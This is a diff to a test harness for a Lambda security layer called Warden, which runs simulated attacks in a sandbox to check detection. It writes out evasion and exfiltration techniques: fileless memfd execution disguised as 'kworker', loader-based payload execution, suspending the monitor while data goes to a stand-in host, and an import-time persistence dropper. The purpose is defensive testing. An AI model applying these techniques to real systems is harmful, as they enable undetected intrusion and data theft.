@@ -50,13 +50,40 @@ def listener(commands=None, ports=(0,)):
 
 
 def layer():
-    """The layer as Lambda unpacks it at /opt: the extension and the shipped model."""
+    """The layer as Lambda unpacks it at /opt: the extension, the shipped model and the
+    in-process guard with its exec wrapper."""
     base = os.path.join(WORK, "layer")
     os.makedirs(os.path.join(base, "extensions"), exist_ok=True)
-    os.makedirs(os.path.join(base, "warden"), exist_ok=True)
+    os.makedirs(os.path.join(base, "warden", "lib"), exist_ok=True)
     shutil.copy2(os.path.join(RELEASE, "warden-extension"), os.path.join(base, "extensions", "warden"))
     shutil.copy2(os.path.join(ROOT, "layer", "model", "model.bin"), os.path.join(base, "warden", "model.bin"))
+    shutil.copy2(os.path.join(RELEASE, "libwarden_guard.so"), os.path.join(base, "warden", "lib", "libwarden_guard.so"))
+    shutil.copy2(os.path.join(ROOT, "layer", "warden-wrapper"), os.path.join(base, "warden", "wrapper"))
     return base
+
+
+def guard_wrapper():
+    """The exec wrapper, by a path the sandbox sees isolated or not (/opt exists only isolated)."""
+    return os.path.join(layer(), "warden", "wrapper")
+
+
+MEMFD_EXEC = ("import os; fd = os.memfd_create('kworker'); "
+              "os.write(fd, open('/bin/sleep', 'rb').read()); "
+              "os.execv('/proc/self/fd/%d' % fd, ['kworker', '0.1'])")
+
+
+def guarded_attacks(sink_port):
+    """What the outside view misses and the in-process guard sees (Python, through the wrapper)."""
+    host = "host.sandbox"
+    return [
+        ("fileless: a program run from memory (memfd)", "dropper",
+         {"spawn": ["python3", "-c", MEMFD_EXEC]}),
+        ("a payload run through the dynamic loader", "dropper",
+         {"spawn": ["sh", "-c", "cp /bin/sleep /tmp/.l && /lib64/ld-linux-x86-64.so.2 /tmp/.l 0.1"]}),
+        ("Warden stopped (SIGSTOP) while data leaves", "tamper",
+         {"stop_extension": {"ms": 300, "during": ["python3", "-c",
+          f"import socket; s = socket.create_connection(('{host}', {sink_port})); s.sendall(b'x' * 20000)"]}}),
+    ]
 
 
 def benign(i):
@@ -64,7 +91,7 @@ def benign(i):
             "response_bytes": 200 + (i * 37) % 400}
 
 
-def workload(sink_port, c2_port, pool_port):
+def workload(sink_port, c2_port, pool_port, extra=()):
     host = "host.sandbox"
     attacks = [
         ("command injection: a shell runs commands", "command_injection",
@@ -81,6 +108,7 @@ def workload(sink_port, c2_port, pool_port):
         ("dropper: payload written to /tmp and run", "dropper",
          {"exec_tmp": {"path": "/tmp/.x", "script": "#!/bin/sh\nsleep 0.2\necho pwned\n"}}),
         ("denial of wallet: runaway compute", "denial_of_wallet", {"burn_ms": 2500}),
+        *extra,
     ]
     events = [(f"benign #{i + 1}", benign(i), None) for i in range(WARMUP)]
     # Each attack starts 100 ms in, as a handler does after its own start-up work: what a
@@ -100,7 +128,7 @@ def workload(sink_port, c2_port, pool_port):
     return events
 
 
-def run(function_args, name, events):
+def run(function_args, name, events, env=()):
     os.makedirs(WORK, exist_ok=True)
     events_file = os.path.join(WORK, f"{name}.events.jsonl")
     report_file = os.path.join(WORK, f"{name}.report.jsonl")
@@ -110,24 +138,29 @@ def run(function_args, name, events):
     cmd = [os.path.join(RELEASE, "warden-sandbox"), "run", "--layer", layer(), *function_args,
            "--events", events_file, "--report", report_file, "--host-link", "--quiet",
            "--timeout-s", "3", "--function-name", name]
+    for pair in env:
+        cmd += ["--env", pair]
     out = subprocess.run(cmd, capture_output=True, text=True, env={**os.environ,
                          "WARDEN_SANDBOX_PYTHON": os.path.join(ROOT, ".venv", "bin", "python")})
     if out.returncode != 0:
         sys.stderr.write(out.stderr)
         raise SystemExit(f"sandbox failed with {out.returncode}")
     findings = {}
+    init = []
     for line in out.stdout.splitlines():
         try:
             value = json.loads(line)
         except ValueError:
             continue
-        if isinstance(value, dict) and "warden_finding" in value:
+        if isinstance(value, dict) and "warden_finding" in value and value.get("request_id") is None:
+            init.append(value)
+        elif isinstance(value, dict) and "warden_finding" in value:
             findings.setdefault(value.get("request_id"), []).append(value)
             # The first errors of a probing burst are reported by the finding that names it.
             for earlier in value.get("earlier_requests", []):
                 findings.setdefault(earlier, []).append({**value, "reported_with": value.get("request_id")})
     report = [json.loads(l) for l in open(report_file) if l.strip()]
-    return report, findings
+    return report, findings, init
 
 
 def raw(feature, value):
@@ -209,23 +242,45 @@ def show(title, events, report, findings):
     return tally
 
 
+def show_init(python, wrapper):
+    """A dependency that plants a payload when it is imported, before the first event."""
+    plant = {"spawn_detached": ["sh", "-c", "cp /bin/sleep /tmp/.cache-worker && exec /tmp/.cache-worker 300"],
+             "sleep_ms": 100}
+    events = [(f"benign #{i + 1}", benign(i), None) for i in range(3)]
+    report, findings, init = run(python, "billing-api", events,
+                                 [wrapper, "PROBE_INIT=" + json.dumps(plant)])
+    print("\n== Python function whose dependency plants a payload at import (the init phase)")
+    for f in init:
+        print("init phase")
+        print("\n".join(describe(f)))
+    tally = show("... and its invocations", events, report, findings)
+    tally["attacks"] += 1
+    tally["found"] += any(f["class"] == "persistence" for f in init)
+    tally["named"] += any(f["class"] == "persistence" for f in init)
+    return tally
+
+
 def main():
     sink_port, received = listener()
     # The attacker's session: a few commands, a pause while they read the answers, then exit.
     c2_port, _ = listener(b"id\nuname -a\nsleep 0.3\nexit\n")
     # A mining pool on a port miners default to (the first one free here).
     pool_port, _ = listener(ports=(3333, 14444, 45700))
-    events = workload(sink_port, c2_port, pool_port)
     python = ["--function", os.path.join(ROOT, "tests", "functions", "python-probe"), "--runtime", "python",
               "--handler", "handler.handler"]
+    wrapper = f"AWS_LAMBDA_EXEC_WRAPPER={guard_wrapper()}"
     totals = []
-    report, findings = run(python, "orders-api", events)
-    totals.append(show("Python function (awslambdaric) with the Warden layer", events, report, findings))
+    events = workload(sink_port, c2_port, pool_port, guarded_attacks(sink_port))
+    report, findings, _ = run(python, "orders-api", events, [wrapper])
+    totals.append(show("Python function (awslambdaric) with the Warden layer and its in-process guard",
+                       events, report, findings))
+    events = workload(sink_port, c2_port, pool_port)
     rust_dir = os.path.join(WORK, "rust-function")
     os.makedirs(rust_dir, exist_ok=True)
     shutil.copy2(os.path.join(RELEASE, "rust-probe"), os.path.join(rust_dir, "bootstrap"))
-    report, findings = run(["--function", rust_dir, "--runtime", "provided"], "thumbnailer", events)
+    report, findings, _ = run(["--function", rust_dir, "--runtime", "provided"], "thumbnailer", events)
     totals.append(show("Rust function (lambda_runtime) with the Warden layer", events, report, findings))
+    totals.append(show_init(python, wrapper))
     summary = [r for r in report if r.get("type") == "summary"]
     print("\n== summary")
     found, named = sum(t['found'] for t in totals), sum(t['named'] for t in totals)
